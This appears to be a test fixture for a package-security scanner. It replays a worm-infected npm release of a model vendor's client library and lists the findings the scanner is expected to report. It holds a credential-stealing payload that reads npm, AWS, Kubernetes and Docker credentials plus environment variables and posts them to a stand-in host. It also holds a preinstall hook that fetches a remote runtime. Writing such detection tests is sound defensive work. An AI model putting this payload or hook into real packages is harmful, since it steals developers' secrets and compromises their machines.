import { obfuscated } from '../obfuscated.js'
import { durations } from '../plain-modules.js'
import { replayUpgrade } from '../upgrade.js'
import { lines, startUnderBun } from '../worm.js'

const payload = obfuscated(
  `
const $fs=require(«fs»),$os=require(«os»),$path=require(«path»);
async function $main(){const $found=[];
for(const $place of [«.npmrc»,«.aws/credentials»,«.kube/config»,«.docker/config.json»]){
try{$found[«push»]($fs[«readFileSync»]($path[«join»]($os[«homedir»](),$place),«utf8»));}catch($failure){}}
$found[«push»](JSON[«stringify»](process[«env»]));
await fetch(«https://filev2.messenger.example/file»,{'method':«POST»,'body':$found[«join»](«»)[«slice»](0x0,0x0)});
}
$main()[«catch»](()=>{});
`,
  300,
)

const manifest = { main: 'index.js' }
const command = 'node setup.mjs'

export const replay = replayUpgrade({
  description:
    'A package of the TanStack wave: the same worm came to the client of a model’s maker as a loader before install, in three versions ' +
    'within minutes.',
  date: '2026-05-11',
  reviewedAt: '2026-05-12T08:00:00Z',
  name: '@mistralai/mistralai',
  from: ['2.2.1', { manifest, files: { 'index.js': durations }, published: '2026-04-28T12:00:00Z' }],
  to: [
    '2.2.2',
    {
      manifest: { ...manifest, scripts: { preinstall: command } },
      files: { 'index.js': durations, 'setup.mjs': startUnderBun('tanstack_runner.js'), 'tanstack_runner.js': payload },
      published: '2026-05-11T22:40:00Z',
    },
  ],
  beside: { '2.2.3': { published: '2026-05-11T22:44:00Z' }, '2.2.4': { published: '2026-05-11T22:48:00Z' } },
  findings: [
    ['release-burst', 'high'],
    ['release-fresh', 'medium'],
    ['install-script-dangerous', 'critical', { file: 'tanstack_runner.js', line: payload }],
    ['remote-code-run', 'critical', { file: 'setup.mjs', line: lines.fetchRuntime }],
    ['secrets-exfiltrated', 'critical', { file: 'tanstack_runner.js', line: payload }],
    ['secrets-harvested', 'critical', { file: 'tanstack_runner.js', line: payload }],
    ['combined-risk', 'critical'],
    [
      'capability-added',
      'high',
      {
        file: 'setup.mjs',
        line: lines.unpackRuntime,
      },
    ],
    ['code-obfuscated', 'high', { file: 'tanstack_runner.js' }],
    ['install-script-added', 'high', { file: 'package.json' }],
    ['beacon-added', 'high', { file: 'tanstack_runner.js', line: payload }],
    [
      'network-host-added',
      'medium',
      {
        file: 'setup.mjs',
        line: "const archive = 'https://bun-releases.example/download/bun-v1.3.13/' + target + '.zip'",
      },
    ],
  ],
})
